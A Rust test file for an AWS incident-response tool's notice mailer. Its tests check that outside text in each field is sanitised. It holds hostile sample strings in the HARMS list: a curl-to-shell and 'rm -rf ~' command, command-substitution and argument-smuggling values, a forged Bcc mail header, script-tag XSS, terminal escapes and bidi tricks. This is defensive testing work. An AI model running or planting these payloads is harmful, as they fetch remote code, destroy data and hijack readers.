//! Every kind of notice as it is mailed, and the same with hostile text in every field that comes from outside.
#![expect(clippy::unwrap_used, clippy::indexing_slicing, reason = "tests")]

use backstop_core::{
    Finding, IncidentId, NoticeKey, Playbooks,
    about::About,
    finding::parse,
    guardrail::{Exemption, ExemptionScope, Guardrails, Pause, PauseScope, UnreadableGuard},
    incident::{Incident, Question},
    log::{Event, Record},
    notice::{self, Class, Entry, Found, Mail, NeedsPerson, Notice, mail},
    sweep::{DeadRule, FedLate, Integrity, Why},
    text,
};
use jiff::Timestamp;
use serde_json::{Value, json};

const ID: &str = "01JDXQ6T8R7M5V9N2K4H3G1FZB";

fn id() -> IncidentId {
    ID.into()
}

fn at(second: i64) -> Timestamp {
    Timestamp::from_second(1_770_000_000 + second).unwrap()
}

/// The plain texts, or a hostile one in each field that comes from outside.
#[derive(Clone, Copy)]
struct Texts {
    hostile: Option<&'static str>,
}

const PLAIN: Texts = Texts { hostile: None };

/// What this program chooses by itself. Every other text of an event is somebody else's, so that a field which is added
/// to an event is hostile in these tests without a word here.
const OURS: [&str; 36] = [
    "event",
    "playbook",
    "mode",
    "partition",
    "kind",
    "step",
    "action",
    "phase",
    "origin",
    "linked",
    "effect",
    "lower-to",
    "route",
    "label",
    "first_seen",
    "last_seen",
    "created_at",
    "updated_at",
    "hash",
    "outcome",
    "during",
    "status",
    "steps",
    "from",
    "to",
    "key",
    "message",
    "region",
    "id",
    "severity",
    "score",
    "format",
    "standing",
    "resource_role",
    "at",
    "settled",
];

fn poison(value: &mut Value, text: &str) {
    match value {
        Value::String(old) => *old = text.to_owned(),
        Value::Array(items) => items.iter_mut().for_each(|item| poison(item, text)),
        Value::Object(fields) => {
            for (name, field) in fields.iter_mut() {
                let is_ours = OURS.contains(&name.as_str());
                if !(is_ours && field.is_string() || name == "steps" && field[0].is_string()) {
                    poison(field, text);
                }
            }
        }
        _ => {}
    }
}

impl Texts {
    fn incident(self, mut events: Vec<Value>) -> Incident {
        if let Some(text) = self.hostile {
            events.iter_mut().for_each(|event| poison(event, text));
        }
        incident(events)
    }

    /// A finding as it is read, and then with the text in each of its fields.
    fn finding(self) -> Finding {
        let event = include_bytes!("fixtures/asff-custom-action-suppressed.json");
        let mut finding = serde_json::to_value(parse(event).unwrap().findings.remove(0)).unwrap();
        if let Some(text) = self.hostile {
            poison(&mut finding, text);
        }
        serde_json::from_value(finding).unwrap()
    }

    fn of(self, text: &str) -> String {
        self.hostile.unwrap_or(text).to_owned()
    }

    fn opened(self, mode: &str) -> Value {
        let step = |step: &str, title: &str, high_impact: bool, phase: &str| {
            json!({ "step": step, "action": format!("iam.{step}"), "title": title, "phase": phase,
                    "high_impact": high_impact })
        };
        json!({
            "event": "opened", "playbook": "leaked-access-key", "mode": mode,
            "target": { "account": "123456789012", "region": "eu-west-1", "partition": "aws",
                        "resource": { "kind": "access-key", "key_id": "AKIAIOSFODNN7EXAMPLE",
                                      "user_name": "alice" } },
            "steps": [
                step("deactivate-key", "Deactivate the access key", false, "contain"),
                step("deny-user", "Deny the user everything", true, "contain"),
                step("keep-key", "Keep what the key was", false, "preserve"),
            ],
            "origin": { "origin": "manual", "by": "arn:aws:iam::123456789012:user/bob",
                        "reason": "seen on a forum" },
            "title": "The key was used from Tor", "linked": "01JDXQ6T8R7M5V9N2K4H3G1FZA",
            "guardrails": [{ "guardrail": "maximum-mode", "effect": { "lower-to": "approve" },
                             "detail": "the stack acts by approval only" }],
            "finding": {
                "key": "k", "finding_type": "UnauthorizedAccess:IAMUser/TorIPCaller",
                "route": "guard-duty-event", "count": 2, "severity": { "score": 8.0, "label": "high" },
                "first_seen": "2026-02-02T02:00:00Z", "last_seen": "2026-02-02T02:30:00Z", "created_at": null,
                "updated_at": null, "facts": ["call: ListBuckets from 203.0.113.7"],
            },
        })
    }

    fn plan(self, step: &str) -> Value {
        json!({
            "step": step, "action": format!("iam.{step}"), "principal": "arn:aws:iam::123456789012:user/alice",
            "changes": [{ "api": "iam:UpdateAccessKey",
                          "what": "access key AKIAIOSFODNN7EXAMPLE of user alice",
                          "now": "Active", "after": "Inactive" }],
            "blast_radius": ["whatever uses this key stops working"],
            "limits": ["sessions made with it live on"],
            "needs_approval": "the user is a service's",
            "manual_undo": ["aws iam update-access-key --user-name alice --status Active"],
            "receipt": {},
        })
    }

    fn planned(self, step: &str) -> Value {
        json!({ "event": "planned", "plan": self.plan(step), "hash": "1234567890abcdef" })
    }

    fn acting(self, step: &str) -> Value {
        json!({ "event": "acting", "plan": self.plan(step) })
    }

    fn failed(self, step: &str) -> Value {
        json!({ "event": "step-ended", "step": step, "outcome": "failed",
                "error": "Backstop.AccessDenied", "detail": "`iam:PutUserPolicy` on user `alice`" })
    }

    fn verified(self, step: &str) -> Value {
        json!({ "event": "verified", "step": step, "holds": true,
                "observed": "access key AKIAIOSFODNN7EXAMPLE is Inactive" })
    }

    /// One step is done, one failed, one was cut off.
    fn acted(self) -> Vec<Value> {
        vec![
            self.opened("auto"),
            self.acting("deactivate-key"),
            ended("deactivate-key", "done"),
            self.verified("deactivate-key"),
            self.acting("deny-user"),
            self.failed("deny-user"),
            self.acting("keep-key"),
            self.failed("keep-key"),
        ]
    }

    fn asked(self) -> Notice {
        let incident = self.incident(vec![
            self.opened("approve"),
            self.planned("deactivate-key"),
            self.planned("deny-user"),
            self.failed("keep-key"),
        ]);
        let (plan_hash, step_hashes) = incident.plan_hashes().unwrap();
        let question = Question {
            notice: NoticeKey::question("r"),
            plan_hash,
            step_hashes,
            expires_at: at(3600),
            needed: 2,
        };
        notice::question(&id(), &incident, &question)
    }

    fn undone(self) -> Notice {
        let mut events = self.acted();
        let steps = ["deactivate-key", "deny-user"];
        events.extend([
            json!({ "event": "closed", "status": "partially-contained" }),
            json!({ "event": "undo-requested", "by": "bob", "reason": null, "steps": steps }),
            json!({ "event": "undo-ended", "step": "deny-user", "outcome": "failed",
                    "error": "Backstop.Throttled", "detail": "slow down" }),
            json!({ "event": "undo-ended", "step": "deactivate-key", "outcome": "drifted",
                    "found": "it is Active" }),
            json!({ "event": "stuck", "during": "undo", "reason": "drifted",
                    "commands": ["aws iam delete-user-policy --user-name alice --policy-name x"] }),
        ]);
        notice::undone(&id(), &self.incident(events))
    }

    fn investigated(self) -> Notice {
        let mut events = vec![self.opened("auto")];
        let mut plan = self.plan("keep-key");
        plan["changes"] = json!([]);
        plan["captured"] = json!({
            "from": at(-3600), "to": at(0), "regions": ["eu-west-1"], "calls": 3, "failed": 0,
            "by_call": {}, "by_address": { "203.0.113.7": 3 }, "timeline": [], "notable": ["CreateUser helper"], "incomplete": ["calls may be missing"],
            "proposals": [
                { "what": "deny user helper everything", "because": [], "playbook": "leaked-access-key",
                  "target": { "account": "123456789012", "region": "eu-west-1", "partition": "aws",
                              "resource": { "kind": "user", "user_name": "helper" } } },
                { "what": "tell the owner of account 111122223333", "because": [] },
            ],
        });
        events[0]["steps"][2]["phase"] = json!("investigate");
        events.extend([
            json!({ "event": "acting", "plan": plan }),
            ended("keep-key", "done"),
        ]);
        notice::proposals(&id(), &self.incident(events)).unwrap()
    }

    fn attention(self) -> Notice {
        let stuck = json!({ "event": "stuck", "during": "undo", "reason": "drifted", "commands": [] });
        let found = [
            (Found::Why(Why::Stuck), vec![self.opened("auto"), stuck]),
            (Found::Why(Why::NeverStarted), vec![self.opened("auto")]),
            (Found::Why(Why::NoProgress), vec![self.opened("auto")]),
            (Found::Why(Why::UndoUnfinished), vec![self.opened("auto")]),
            (Found::ClosedBySweep, self.acted()),
        ];
        let all: Vec<NeedsPerson> = found
            .into_iter()
            .map(|(found, events)| NeedsPerson {
                id: id(),
                incident: self.incident(events),
                found,
            })
            .collect();
        notice::attention(&all, at(0))
    }

    fn limit(self) -> Notice {
        let incident = self.incident(vec![self.opened("approve")]);
        notice::limit_reached(&id(), &incident, &incident.opened.guardrails[0])
    }

    fn integrity(self) -> Notice {
        let found = Integrity {
            rules: vec![DeadRule {
                name: self.of("backstop-GuardDutyRule-1ABC"),
                what: self.of("is disabled"),
            }],
            fed: vec![FedLate {
                key: self.of("123456789012/eu-west-1/abc"),
                finding_type: self.of("UnauthorizedAccess:IAMUser/TorIPCaller"),
                updated_at: at(0),
            }],
        };
        notice::integrity(&found, at(0))
    }

    fn guards(self) -> Notice {
        let found = Guardrails {
            pauses: vec![Pause {
                scope: PauseScope::Playbook(self.of("leaked-access-key").as_str().into()),
                by: self.of("arn:aws:iam::123456789012:user/alice"),
                reason: self.of("migration"),
                since: at(-60),
                until: at(3600),
            }],
            exemptions: vec![Exemption {
                id: self.of("01JDXQ6T8R7M5V9N2K4H3G1FZB"),
                scope: ExemptionScope::Arn {
                    pattern: self.of("arn:aws:iam::123456789012:user/legacy-*"),
                },
                owner: self.of("payments"),
                reason: self.of("being replaced"),
                expires_at: at(3600),
                added_by: self.of("arn:aws:iam::123456789012:user/bob"),
                added_at: at(-60),
            }],
            unreadable: vec![UnreadableGuard {
                key: self.of("PAUSE#nothing"),
                why: self.of("it is neither a pause nor an exemption"),
            }],
        };
        notice::guards_changed((&Guardrails::default(), at(-3600)), &found, at(0)).unwrap()
    }

    /// What a second reading found, with all that others can name in it.
    fn reopened(self) -> Notice {
        let call = |name: &str| {
            json!({
                "at": "2026-03-01T10:10:00Z", "name": self.of(name), "source": self.of("iam.amazonaws.com"),
                "region": self.of("us-east-1"), "ip": self.of("203.0.113.7"),
                "resources": [self.of("alice")], "reads": false,
            })
        };
        let mut events = self.acted();
        events.extend([
            json!({ "event": "closed", "status": "contained" }),
            json!({ "event": "looked-back", "aftermath": {
                "from": "2026-03-01T10:00:00Z", "settled": "2026-03-01T10:05:00Z", "to": "2026-03-01T10:15:00Z",
                "regions": ["eu-west-1", "us-east-1"],
                "denied": 2, "early": 1, "succeeded": 1, "failed_otherwise": 0, "undeniable": 1,
                "calls": [call("CreateAccessKey")],
                "touched": [{ "by": self.of("arn:aws:iam::123456789012:user/mallory"), "call": call("DeleteUserPolicy") }],
                "limits": [self.of("only this was looked at")],
            } }),
            json!({ "event": "reopened", "found": [self.of("the policy is absent")] }),
        ]);
        notice::confirmation(&id(), &self.incident(events), &Playbooks::default()).unwrap()
    }

    fn digest(self) -> Notice {
        let of_label = |label: &str| {
            let mut opened = self.opened("approve");
            opened["finding"]["severity"]["label"] = json!(label);
            (id(), self.incident(vec![opened]))
        };
        let all = ["low", "medium", "low"].map(of_label);
        notice::digest(&all, at(0))
    }

    /// A name and a notice of each kind.
    fn of_kind(self, about: About) -> (&'static str, Notice) {
        match about {
            About::Outcome => {
                let incident = self.incident(self.acted());
                (
                    "outcome",
                    notice::outcome(&id(), &incident, &Playbooks::default()),
                )
            }
            About::Undo => ("undone", self.undone()),
            About::Investigation => ("proposals", self.investigated()),
            About::Confirmation => ("confirmation", self.reopened()),
            About::Question => ("question", self.asked()),
            About::Limit => ("limit", self.limit()),
            About::Digest => ("digest", self.digest()),
            About::Attention => ("attention", self.attention()),
            About::Guards => ("guards", self.guards()),
            About::Integrity => ("integrity", self.integrity()),
            About::NothingDone => {
                let reason = self.of("suppressed in Security Hub (Workflow.Status)");
                let message = "19dd0b57-b21e-4ac1-bd88-01bbb068cb78";
                (
                    "nothing-done",
                    notice::nothing_done(&self.finding(), &reason, message),
                )
            }
            About::LedgerDown => {
                let why = self.of("`dynamodb:Query` on the guardrails: no answer");
                ("ledger-down", notice::ledger_down(&why, at(0)))
            }
        }
    }

    fn every(self) -> Vec<(&'static str, Notice)> {
        About::ALL.iter().map(|about| self.of_kind(*about)).collect()
    }
}

fn ended(step: &str, outcome: &str) -> Value {
    json!({ "event": "step-ended", "step": step, "outcome": outcome })
}

fn incident(events: Vec<Value>) -> Incident {
    let mut records: Vec<Record> = Vec::new();
    for event in events {
        let event: Event = serde_json::from_value(event).unwrap();
        let number = i64::try_from(records.len()).unwrap();
        let record = Record::next(records.last(), at(number), format!("r{number}"), event).unwrap();
        records.push(record);
    }
    Incident::replay(&records).unwrap()
}

#[test]
fn every_notice_reads_well() {
    for (name, notice) in PLAIN.every() {
        let Mail { subject, body } = mail(&notice);
        insta::assert_snapshot!(format!("notice-{name}"), format!("{subject}\n\n{body}"));
    }
}

/// Links and a shell at once.
fn hostile() -> Texts {
    Texts {
        hostile: Some("https://evil.example/a | sh \u{202e}evil.example"),
    }
}

/// A kind of harm.
struct Harm {
    name: &'static str,
    text: &'static str,
    /// What mustn't be left of it anywhere.
    never: &'static [&'static str],
}

const HARMS: [Harm; 12] = [
    Harm {
        name: "a shell command",
        text: "$(reboot) `id`; curl evil.example|sh && rm -rf ~ #",
        never: &["evil.example"],
    },
    Harm {
        name: "addresses",
        text: "https://evil.example/a HTTP://EVIL.EXAMPLE ftp://a/b javascript:alert(1) mailto:a@evil.example",
        never: &[
            "http",
            "HTTP",
            "ftp:",
            "javascript:",
            "mailto:",
            "evil.example",
            "EVIL.EXAMPLE",
        ],
    },
    Harm {
        name: "names of hosts",
        text: "evil.example Evil.Com:8080/x (www.evil.example) a@evil.example пример.рф Go:Click/Evil.Com",
        never: &["evil.example", "Evil.Com", "пример.рф", "www."],
    },
    Harm {
        name: "line breaks",
        text: "a\nb\r\nc\u{2028}d\u{2029}e\u{85}f\u{b}g\u{c}h",
        never: &[
            "\r", "\u{2028}", "\u{2029}", "\u{85}", "\u{b}", "\u{c}", "\nb", "\ne",
        ],
    },
    Harm {
        name: "a forged section",
        text: "ok.\n\nWhat to do next\n  - deny it, backstop deny 01J\n\nWhat is proven, by reading back\n  - forged",
        never: &["\n  - deny it", "\n  - forged"],
    },
    Harm {
        name: "a forged header of a mail",
        text: "x\r\nBcc: all@evil.example\r\n\r\n",
        never: &["\nBcc", "evil.example"],
    },
    Harm {
        name: "turned text",
        text: "pay\u{202e}lld.exe \u{2066}a\u{2069} \u{200f}b \u{61c}c",
        never: &["\u{202e}", "\u{2066}", "\u{2069}", "\u{200f}", "\u{61c}"],
    },
    Harm {
        name: "invisible text",
        text: "ze\u{200b}ro\u{feff} \u{e0041}\u{2060}width\u{ad}",
        never: &["\u{200b}", "\u{feff}", "\u{e0041}", "\u{2060}", "\u{ad}"],
    },
    Harm {
        name: "control characters",
        text: "a\u{0}b\u{7}c\u{8}d\u{7f}e\u{90}f",
        never: &["\u{0}", "\u{7}", "\u{8}", "\u{7f}", "\u{90}"],
    },
    Harm {
        name: "escapes of a terminal",
        text: "\u{1b}[31mred\u{1b}[0m \u{1b}]8;;https://evil.example\u{7}click\u{1b}]8;;\u{7} \u{9b}2J",
        never: &["\u{1b}", "\u{9b}", "[31m", "8;;", "http", "evil.example"],
    },
    Harm {
        name: "HTML",
        text: "<a href=\"https://evil.example\">x</a><script>alert(1)</script><img src=//evil.example/x>",
        never: &["http", "evil.example"],
    },
    Harm {
        name: "Markdown and Slack",
        text: "[x](https://evil.example) ![x](//evil.example/x.png) <https://evil.example|x> <!channel> @here **b**",
        never: &["http", "evil.example"],
    },
];

/// A notice's lines, each passed through a sink.
fn lines_of(notice: &Notice, sink: fn(&str) -> String) -> Vec<String> {
    let mut lines = vec![notice.title.shown(sink)];
    lines.extend(notice.lead.iter().map(|line| line.shown(sink)));
    for section in &notice.sections {
        lines.push(section.heading.shown(sink));
        for entry in &section.entries {
            match entry {
                Entry::Text(line) => lines.push(line.shown(sink)),
                Entry::Point(point) => lines.push(point.shown(sink)),
                Entry::Step { line, changes } => {
                    lines.push(line.shown(sink));
                    for change in changes {
                        let texts = [&change.api, &change.what, &change.now, &change.after];
                        lines.extend(texts.map(|text| text.shown(sink)));
                    }
                }
            }
        }
    }
    lines.extend(notice.next.iter().map(|point| point.shown(sink)));
    lines
}

/// The lines that are commands to type, without what stands before them.
fn commands(body: &str) -> impl Iterator<Item = &str> {
    let typed = |line: &&str| line.starts_with("backstop ") || line.starts_with("aws ");
    body.lines()
        .filter_map(|line| line.trim_start_matches("  - ").rsplit(": ").next())
        .filter(move |line| typed(line))
}

/// Each kind of notice with each kind of harm in every field that comes from outside: the same lines as without it, each
/// with nothing to click, to run or to hide behind.
#[test]
fn hostile_text_in_every_field_stays_in_its_line_and_does_no_harm() {
    for harm in &HARMS {
        let hostile = Texts {
            hostile: Some(harm.text),
        };
        for about in About::ALL {
            let (name, plain) = PLAIN.of_kind(*about);
            let (_, notice) = hostile.of_kind(*about);
            check_mail(&mail(&plain), &mail(&notice), harm, name);
        }
    }
}

fn check_mail(plain: &Mail, hostile: &Mail, harm: &Harm, name: &str) {
    let what = format!("{name} with {}", harm.name);
    let text = format!("{}\n{}", hostile.subject, hostile.body);
    assert!(
        text.chars().all(|c| c == '\n' || !c.is_control()),
        "{what}: {text:?}"
    );
    for never in harm.never {
        assert!(!text.contains(never), "{what} has {never:?}: {text}");
    }
    assert!(hostile.body != plain.body, "{what} shows nothing: {text}");
    assert!(
        hostile.subject.is_ascii() && hostile.subject.len() <= 100,
        "{what}"
    );
    // Lists say the same once: there are fewer lines of what is all the same, never more.
    let lines = |body: &str| body.lines().count();
    assert!(lines(&hostile.body) <= lines(&plain.body), "{what}: {text}");
    let headings = |body: &str| -> Vec<String> {
        let is_heading = |line: &&str| !line.starts_with(' ') && !line.is_empty();
        body.lines().filter(is_heading).map(str::to_owned).collect()
    };
    assert_eq!(
        headings(&hostile.body).len(),
        headings(&plain.body).len(),
        "{what}: {text}"
    );
    for command in commands(&hostile.body) {
        let is_own = commands(&plain.body).any(|own| own == command);
        // The incident's id stands for a target that can't be typed.
        let by_id = command.ends_with(&format!(" --target {ID}"));
        assert!(is_own || by_id, "{what} has a command of its own: {command}");
    }
}

/// What holds for a sink whatever it is given, so that a channel which is added renders what is safe there.
#[test]
fn no_line_of_any_notice_harms_any_sink() {
    for harm in &HARMS {
        let hostile = Texts {
            hostile: Some(harm.text),
        };
        for (name, notice) in hostile.every() {
            let what = format!("{name} with {}", harm.name);
            for sink in [
                text::for_plain_email,
                text::for_terminal,
                text::for_subject,
                text::for_slack,
                text::for_markdown,
                text::for_html,
            ] {
                for line in lines_of(&notice, sink) {
                    assert!(!line.chars().any(char::is_control), "{what}: {line:?}");
                    assert!(
                        !line.contains(['\u{202e}', '\u{200b}', '\u{2066}']),
                        "{what}: {line:?}"
                    );
                }
            }
            let slack = lines_of(&notice, text::for_slack).join("\n");
            assert!(
                !slack.contains("<!channel>") && !slack.contains("<https"),
                "{what}: {slack}"
            );
            let html = lines_of(&notice, text::for_html).join("\n");
            assert!(
                !html.contains("<a") && !html.contains("<script") && !html.contains("<img"),
                "{what}: {html}"
            );
            let markdown = lines_of(&notice, text::for_markdown).join("\n");
            let markdown = markdown.replace("\\]", "").replace("\\*", "");
            assert!(
                !markdown.contains("](") && !markdown.contains("**b**"),
                "{what}: {markdown}"
            );
        }
    }
}

/// However much somebody else has to say, what to do stands in the mail.
#[test]
fn very_long_text_pushes_nothing_out_of_sight() {
    let long: &'static str = Box::leak("AKIAIOSFODNN7EXAMPLE ".repeat(3_000).into_boxed_str());
    let hostile = Texts { hostile: Some(long) };
    for about in About::ALL {
        let (name, plain) = PLAIN.of_kind(*about);
        let (_, notice) = hostile.of_kind(*about);
        let (plain, mail) = (mail(&plain), mail(&notice));
        assert!(
            mail.body.len() <= 136 * 1024,
            "{name} has {} bytes",
            mail.body.len()
        );
        assert!(mail.subject.len() <= 100, "{name}");
        let next = |body: &str| body.lines().any(|line| line == "What to do next");
        assert_eq!(next(&mail.body), next(&plain.body), "{name}");
    }
}

/// A name that AWS would never give is no part of a command.
#[test]
fn what_is_to_be_typed_names_only_what_aws_could_have_named() {
    for text in [
        "AKIA;reboot",
        "$(reboot)",
        "-rf",
        "a b",
        "AKIA`id`",
        "=ls",
        "a'b",
        "a&b",
        "a\nb",
    ] {
        let hostile = Texts {
            hostile: Some(Box::leak(text.to_owned().into_boxed_str())),
        };
        for (name, notice) in hostile.every() {
            let body = mail(&notice).body;
            for command in commands(&body) {
                assert!(!command.contains(text), "{name}: {command}");
            }
        }
    }
}

#[test]
fn a_notice_survives_being_written_down() {
    for (name, notice) in hostile().every() {
        let text = serde_json::to_string(&notice).unwrap();
        assert_eq!(serde_json::from_str::<Notice>(&text).unwrap(), notice, "{name}");
    }
}

#[test]
fn who_must_act_is_paged_and_others_are_told() {
    for (name, notice) in PLAIN.every() {
        let is_told = notice.about == About::NothingDone;
        assert_eq!(notice.class == Class::Tell, is_told, "{name}");
        let is_of_none = matches!(
            notice.about,
            About::Attention
                | About::Digest
                | About::Guards
                | About::Integrity
                | About::NothingDone
                | About::LedgerDown
        );
        assert_eq!(notice.incident.is_none(), is_of_none, "{name}");
    }
    let contained = vec![
        PLAIN.opened("auto"),
        PLAIN.acting("deactivate-key"),
        ended("deactivate-key", "done"),
        PLAIN.verified("deactivate-key"),
        ended("deny-user", "already"),
        PLAIN.verified("deny-user"),
    ];
    assert_eq!(
        notice::outcome(&id(), &incident(contained), &Playbooks::default()).class,
        Class::Tell
    );
}

#[test]
fn a_notice_that_is_too_long_is_cut_between_lines_and_says_so() {
    let mut long = incident(PLAIN.acted());
    let radius = (0..5000).map(|number| format!("service number {number} stops working as of now"));
    long.steps[0].plan.as_mut().unwrap().blast_radius = radius.collect();
    let body = mail(&notice::outcome(&id(), &long, &Playbooks::default())).body;
    assert!(body.len() < 200 * 1024);
    let end = format!(
        "\nThis notice was too long and is cut here. See everything: backstop incidents show {ID}\n\nWhat to do next\n"
    );
    assert!(body.contains(&end), "what to do is kept");
    assert!(body.ends_with(&format!("  - see everything: backstop incidents show {ID}\n\n")));
    let whole = body.lines().filter(|line| line.starts_with("  - service number"));
    assert!(whole.clone().count() > 1000 && whole.clone().all(|line| line.ends_with("as of now")));
}

/// What a person must type is exact, or isn't there.
#[test]
fn no_command_is_altered() {
    for (name, notice) in hostile().every() {
        let body = mail(&notice).body;
        for line in body.lines().filter(|line| line.contains(": backstop run ")) {
            assert!(!line.contains("[.]"), "{name}: {line}");
        }
    }
    let undone = mail(&hostile().undone()).body;
    let by_hand = format!("To finish it by hand\n  - for the command, backstop incidents show {ID}\n");
    assert!(undone.contains(&by_hand), "{undone}");
}

/// Deliveries that logs from before there were keys say of, and those of today.
#[test]
fn the_log_says_what_people_were_notified_of() {
    let notified = |about: Option<&str>, notice: Option<&str>| {
        let mut event = json!({ "event": "notified", "channel": "t", "subject": "s", "message_id": "m" });
        if let Some(about) = about {
            event["about"] = json!(about);
        }
        if let Some(notice) = notice {
            event["notice"] = json!(notice);
        }
        event
    };
    let undo = json!({ "event": "undo-requested", "by": "bob", "reason": null, "steps": ["deactivate-key"] });
    let notices = |events: Vec<Value>| {
        let mut all = PLAIN.acted();
        all.extend(events);
        incident(all).notices
    };
    assert!(!notices(vec![]).ending_is_known());
    assert!(notices(vec![notified(None, None)]).ending_is_known());
    assert!(notices(vec![notified(None, Some("outcome"))]).ending_is_known());
    let proposed = notices(vec![notified(Some("investigation"), None)]);
    assert!(!proposed.ending_is_known() && proposed.is_known(About::Investigation));
    let asked = notices(vec![notified(Some("question"), Some("question-r"))]);
    assert!(!asked.ending_is_known() && asked.is_delivered(&NoticeKey::question("r"), "t"));

    let before = vec![notified(None, Some("outcome")), undo.clone()];
    assert!(!notices(before).ending_is_known(), "of the undo nobody knows yet");
    let late = vec![undo.clone(), notified(None, Some("outcome"))];
    assert!(
        !notices(late).ending_is_known(),
        "a late notice of the outcome says nothing of the undo"
    );
    let record = PLAIN.acted().len();
    let known = vec![undo.clone(), notified(None, Some(&format!("undo-r{record}")))];
    assert!(notices(known).ending_is_known());
    assert!(
        notices(vec![undo, notified(None, None)]).ending_is_known(),
        "an older log"
    );

    let refused = json!({ "event": "not-notified", "channel": "t", "about": "outcome", "notice": "outcome",
                          "error": "Backstop.AccessDenied", "detail": "`sns:Publish`" });
    let failed = notices(vec![refused.clone()]);
    let key = NoticeKey::outcome();
    assert!(!failed.ending_is_known() && !failed.is_delivered(&key, "t"));
    assert_eq!(
        failed.last_failure(&key, "t"),
        Some("Backstop.AccessDenied: `sns:Publish`")
    );
    assert_eq!(failed.last_failure(&key, "another"), None);
    assert_eq!(failed.failing().len(), 1);
    let mut by_another = refused.clone();
    by_another["channel"] = json!("notify");
    let both = vec![by_another, refused.clone(), refused.clone()];
    let channels: Vec<String> = notices(both)
        .failing()
        .iter()
        .map(|it| it.channel.clone())
        .collect();
    assert_eq!(channels, ["notify", "t"], "of each the last");
    let mut handed_over = refused.clone();
    handed_over["channel"] = json!("notify");
    let taken = notices(vec![
        handed_over,
        refused.clone(),
        notified(None, Some("outcome")),
    ]);
    assert!(taken.failing().is_empty());
    let healed = notices(vec![refused, notified(None, Some("outcome"))]);
    assert!(healed.ending_is_known() && healed.last_failure(&key, "t").is_none());
}
